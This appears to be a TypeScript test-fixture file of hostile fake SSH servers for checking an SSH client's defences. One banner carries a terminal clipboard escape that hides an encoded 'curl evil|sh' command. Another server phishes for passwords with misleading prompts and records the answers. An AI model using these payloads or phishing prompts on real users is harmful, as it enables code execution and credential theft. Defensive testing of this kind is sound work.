/**
 * Protocol-level hostile nodes: what a student's own sshd (they are root) could send. ssh2's Server
 * where it can play the part, a raw socket where the attack is below what ssh2's Server would send.
 * They listen on 127.66.<slot>.x (the test addresses of this slot, see BRIEF: 127.66.0.x is issue 10's).
 */
import * as net from 'node:net';
import ssh2 from 'ssh2';

const { Server, utils } = ssh2;

export interface FakeSshd {
  host: string;
  port: number;
  /** every answer the client gave to any prompt or password request, in order */
  captured: string[];
  close(): Promise<void>;
}

function hostKey(): string {
  return utils.generateKeyPairSync('ed25519').private;
}

function listen(server: net.Server, host: string): Promise<number> {
  return new Promise((resolve, reject) => {
    server.once('error', reject);
    server.listen(0, host, () => resolve((server.address() as net.AddressInfo).port));
  });
}

function closer(server: net.Server, sockets: Set<net.Socket>): () => Promise<void> {
  return () =>
    new Promise<void>((resolve) => {
      for (const s of sockets) s.destroy();
      netServer(server).close(() => resolve());
    });
}

/** ssh2's Server wraps a net.Server (`_srv`); sockets are tracked on that one. */
function netServer(server: unknown): net.Server {
  return ((server as { _srv?: net.Server })._srv ?? server) as net.Server;
}

function track(server: net.Server): Set<net.Socket> {
  server = netServer(server);
  const sockets = new Set<net.Socket>();
  server.on('connection', (s: net.Socket) => {
    sockets.add(s);
    s.on('close', () => sockets.delete(s));
    s.on('error', () => undefined);
  });
  return sockets;
}

/** Sends 1 MB of "banner" lines before its identification string, each with terminal escapes in it. */
export async function bannerFlood(host: string): Promise<FakeSshd> {
  const line = 'Welcome \u001b]52;c;Y3VybCBldmlsfHNo\u0007 \u001b[2J'.padEnd(100, 'x');
  const greeting = Array.from({ length: 10_500 }, () => line).join('\r\n');
  const server = new Server({ hostKeys: [hostKey()], greeting }, (client) => {
    client.on('error', () => undefined);
    client.on('authentication', (ctx) => ctx.accept());
  });
  const sockets = track(server as unknown as net.Server);
  const port = await listen(server as unknown as net.Server, host);
  return { host, port, captured: [], close: closer(server as unknown as net.Server, sockets) };
}

/** Authenticates anyone, then never answers a channel-open (no confirmation, no failure). */
export async function silentChannels(host: string): Promise<FakeSshd> {
  const server = new Server({ hostKeys: [hostKey()] }, (client) => {
    client.on('error', () => undefined);
    client.on('authentication', (ctx) => ctx.accept());
    client.on('ready', () => {
      client.on('session', () => undefined); // neither accept nor reject
    });
  });
  const sockets = track(server as unknown as net.Server);
  const port = await listen(server as unknown as net.Server, host);
  return { host, port, captured: [], close: closer(server as unknown as net.Server, sockets) };
}

/** Answers the identification, then SSH_MSG_DISCONNECT whose description is terminal escapes. */
export async function hostileDisconnect(host: string, text: string): Promise<FakeSshd> {
  const server = net.createServer((s) => {
    s.on('error', () => undefined);
    s.write('SSH-2.0-OpenSSH_9.0\r\n');
    s.once('data', () => {
      // RFC 4253 6 (binary packet, before key exchange: no cipher, no MAC) and 11.1 (SSH_MSG_DISCONNECT)
      const desc = Buffer.from(text, 'utf8');
      const payload = Buffer.alloc(1 + 4 + 4 + desc.length + 4);
      let o = 0;
      payload[o++] = 1;
      o = payload.writeUInt32BE(2, o); // SSH_DISCONNECT_PROTOCOL_ERROR
      o = payload.writeUInt32BE(desc.length, o);
      desc.copy(payload, o);
      o += desc.length;
      payload.writeUInt32BE(0, o); // language tag ""
      let pad = 8 - ((4 + 1 + payload.length) % 8);
      if (pad < 4) pad += 8;
      const pkt = Buffer.alloc(4 + 1 + payload.length + pad);
      pkt.writeUInt32BE(1 + payload.length + pad, 0);
      pkt[4] = pad;
      payload.copy(pkt, 5);
      s.write(pkt);
    });
  });
  const sockets = track(server);
  const port = await listen(server, host);
  return { host, port, captured: [], close: closer(server, sockets) };
}

/**
 * A student's sshd phishing for the class password: refuses keys, offers only keyboard-interactive,
 * and asks everything but a plain password prompt (an OTP, an echoed prompt, two prompts at once),
 * recording every answer.
 */
export async function passwordCapture(host: string): Promise<FakeSshd> {
  const captured: string[] = [];
  const server = new Server({ hostKeys: [hostKey()] }, (client) => {
    client.on('error', () => undefined);
    client.on('authentication', (ctx) => {
      if (ctx.method === 'password') {
        captured.push(ctx.password);
        return ctx.reject(['keyboard-interactive']);
      }
      if (ctx.method !== 'keyboard-interactive') return ctx.reject(['keyboard-interactive']);
      ctx.prompt([{ prompt: 'Verification code: ', echo: false }], 'MFA', '', (a1) => {
        captured.push(...a1);
        ctx.prompt([{ prompt: 'Password (shown): ', echo: true }], (a2) => {
          captured.push(...a2);
          ctx.prompt(
            [
              { prompt: 'Password: ', echo: false },
              { prompt: 'Password again: ', echo: false },
            ],
            (a3) => {
              captured.push(...a3);
              ctx.reject();
            },
          );
        });
      });
    });
  });
  const sockets = track(server as unknown as net.Server);
  const port = await listen(server as unknown as net.Server, host);
  return { host, port, captured, close: closer(server as unknown as net.Server, sockets) };
}

/** Asks a plain password prompt (keyboard-interactive and password methods), recording answers, then refuses. */
export async function passwordAsker(host: string): Promise<FakeSshd> {
  const captured: string[] = [];
  const server = new Server({ hostKeys: [hostKey()] }, (client) => {
    client.on('error', () => undefined);
    client.on('authentication', (ctx) => {
      if (ctx.method === 'password') captured.push(ctx.password);
      if (ctx.method === 'keyboard-interactive') {
        ctx.prompt([{ prompt: 'Password: ', echo: false }], (a) => {
          captured.push(...a);
          ctx.reject();
        });
        return;
      }
      ctx.reject(['password', 'keyboard-interactive']);
    });
  });
  const sockets = track(server as unknown as net.Server);
  const port = await listen(server as unknown as net.Server, host);
  return { host, port, captured, close: closer(server as unknown as net.Server, sockets) };
}
